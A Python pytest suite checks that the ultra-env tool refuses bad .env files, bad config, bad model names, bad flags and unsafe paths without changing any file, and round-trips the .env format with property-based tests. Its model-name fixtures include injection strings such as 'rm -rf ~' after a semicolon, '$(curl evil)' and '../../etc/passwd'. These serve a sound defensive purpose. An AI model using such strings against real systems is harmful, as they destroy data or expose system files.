"""Bad input, as a user would type or leave it: each gives a one-line cause, the fix, a non-zero
exit, and changes no file. Plus property-based round trips of the .env format."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import REPO, Project, tmpfs
from hypothesis import given, settings
from hypothesis import strategies as st

from ultra_env.project.envfile import assignment, merge, parse


def snapshot(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file() and p.name != "lock"
    }


ENV_FILES = {  # what `docker compose config` refuses too (tests/test_envfile.py has the verified vectors)
    "bad line": "A=1\nthis line has no equals sign\n",
    "unterminated single quote": "A='open\n",
    "unterminated double quote": 'A="open\n',
    "binary file": "\x00\x01\x02ELF\x00",
    "bad variable name": "A$B=x\n",
    "invalid expansion": "A=${}\n",
    "required variable unset": "A=${NOT_SET_ANYWHERE:?set it}\n",
}
ACCEPTED = {  # what ultra-env refused before and Compose reads: kept byte for byte
    "duplicate key": b"A=1\nB=2\nA=3\n",
    "byte-order mark": b"\xef\xbb\xbfA=1\n",
    "CRLF line endings": b"A=1\r\nB=2\r\n",
    "not UTF-8": b"A=caf\xe9\n",
    "a name starting with a digit": b"1ABC=x\n",
    "a multi-line PEM key": b'PEM="-----BEGIN-----\nabc\n-----END-----"\n',
}
CONFIG_FILES = {
    "TOML syntax error": "[ports\nbackend = 8000\n",
    "wrong type": '[ports]\nbackend = "eighty"\n',
    "unknown key": "colour = 'blue'\n",
    "unknown nested key": "[features]\nteleport = true\n",
    "bad profile": 'profile = "staging"\n',
}
MODEL_NAMES = {
    "shell metacharacters": "ai/smollm2;rm -rf ~",
    "command substitution": "$(curl evil)",
    "path traversal": "../../etc/passwd",
    "empty": "",
    "too long": "ai/" + "a" * 300,
    "newline": "ai/x\nrm",
}


@pytest.fixture
def rendered(project: Project) -> Iterator[Project]:
    assert project.call("render", "--profile", "mock").returncode == 0
    yield project


def assert_refused(project: Project, result, before: dict[str, bytes], *, code: int = 2) -> None:
    assert result.returncode == code, result.output
    failed = [line for line in result.stdout.splitlines() if line.startswith("failed")]
    assert len(failed) == 1, result.stdout  # one task, one line of cause
    assert "fix:" in result.stdout.split(failed[0], 1)[1].splitlines()[1]
    assert snapshot(project.root) == before


@pytest.mark.parametrize("case", ENV_FILES)
def test_malformed_env_file(rendered: Project, case: str) -> None:
    path = rendered.root / ".env"
    path.write_bytes(ENV_FILES[case].encode("utf-8"))
    before = snapshot(rendered.root)
    assert_refused(rendered, rendered.call("render"), before)


@pytest.mark.parametrize("case", ACCEPTED)
def test_what_compose_reads_is_read_and_kept(rendered: Project, case: str) -> None:
    path = rendered.root / ".env"
    path.write_bytes(ACCEPTED[case] + path.read_bytes())
    result = rendered.call("render", "--profile", "mock")
    assert result.returncode == 0, result.output
    assert path.read_bytes().startswith(ACCEPTED[case])


@pytest.mark.parametrize("case", CONFIG_FILES)
def test_invalid_config_file(rendered: Project, case: str) -> None:
    rendered.write("ultra-env.toml", CONFIG_FILES[case])
    before = snapshot(rendered.root)
    result = rendered.call("render")
    assert_refused(rendered, result, before)
    assert "ultra-env.toml" in result.stdout


@pytest.mark.parametrize("case", MODEL_NAMES)
def test_invalid_model_names(rendered: Project, case: str) -> None:
    before = snapshot(rendered.root)
    name = MODEL_NAMES[case]
    result = rendered.call("render", ULTRA_ENV_MODELS=json.dumps([{"name": name}]))
    assert_refused(rendered, result, before)
    flag = rendered.call("models.pull", "--model", name or "''")
    assert flag.returncode == 2 and snapshot(rendered.root) == before


@pytest.mark.parametrize(
    "args",
    [
        ["render", "--bogus"],
        ["profile", "cloud", "--profile", "mock"],
        ["models.rm"],
        ["down", "--volumes=maybe"],
        ["render", "--profile"],
    ],
)
def test_unknown_flags_and_combinations(rendered: Project, args: list[str]) -> None:
    before = snapshot(rendered.root)
    result = rendered.call(*args)
    assert result.returncode != 0
    assert snapshot(rendered.root) == before


def test_unknown_profile(rendered: Project) -> None:
    before = snapshot(rendered.root)
    assert_refused(rendered, rendered.call("profile", "staging"), before)


def test_non_utf8_environment_value(rendered: Project) -> None:
    before = snapshot(rendered.root)
    env = {k.encode(): v.encode() for k, v in rendered.env.items()}
    env[b"OPENAI_API_KEY"] = b"sk-\xff\xfe"
    done = subprocess.run(
        [sys.executable, "-m", "invoke", "-r", str(REPO), "render", "--profile", "cloud"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        cwd=rendered.root,
    )
    assert done.returncode == 2 and "OPENAI_API_KEY is not valid UTF-8 text" in done.stdout
    assert snapshot(rendered.root) == before


def test_symlinked_env_pointing_outside_is_refused(rendered: Project, tmp_path: Path) -> None:
    outside = tmp_path / "outside.env"
    outside.write_text(rendered.read(".env"))
    (rendered.root / ".env").unlink()
    (rendered.root / ".env").symlink_to(outside)
    before = snapshot(rendered.root)
    outside_before = outside.read_bytes()
    result = rendered.call("profile", "cloud")
    assert result.returncode == 1 and "symbolic link" in result.stdout
    assert snapshot(rendered.root) == before and outside.read_bytes() == outside_before


@pytest.fixture
def read_only_dir(tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Path]:
    yield from tmpfs(tmp_path / "ro", "ro,size=1m", request)


def test_unwritable_target_directory(project: Project, read_only_dir: Path) -> None:
    project.env["ULTRA_ENV_PROJECT_DIR"] = str(read_only_dir)
    result = project.call("render", "--profile", "mock")
    assert result.returncode == 1
    assert "Read-only file system" in result.stdout and "fix:" in result.stdout
    assert list(read_only_dir.iterdir()) == []


# Property-based: any value the format can hold survives parse → merge → write → parse.
VALUES = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\r"), max_size=60)
KEYS = st.from_regex(r"[A-Z_][A-Z0-9_]{0,15}", fullmatch=True)


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(KEYS, VALUES, max_size=8), st.dictionaries(KEYS, VALUES, max_size=8))
def test_env_round_trip_keeps_every_user_value(user: dict[str, str], template: dict[str, str]) -> None:
    current = parse("".join(assignment(k, v) + "\n" for k, v in user.items()))
    assert current.values() == user
    desired = parse("".join(assignment(k, v) + "\n" for k, v in template.items()))
    merged, _ = merge(current, desired, last_written={})
    reread = parse(merged.render()).values()
    for key, value in user.items():
        assert reread[key] == value  # nothing the user set is lost or altered
    for key, value in template.items():
        if key not in user:
            assert reread[key] == value  # and everything missing was added
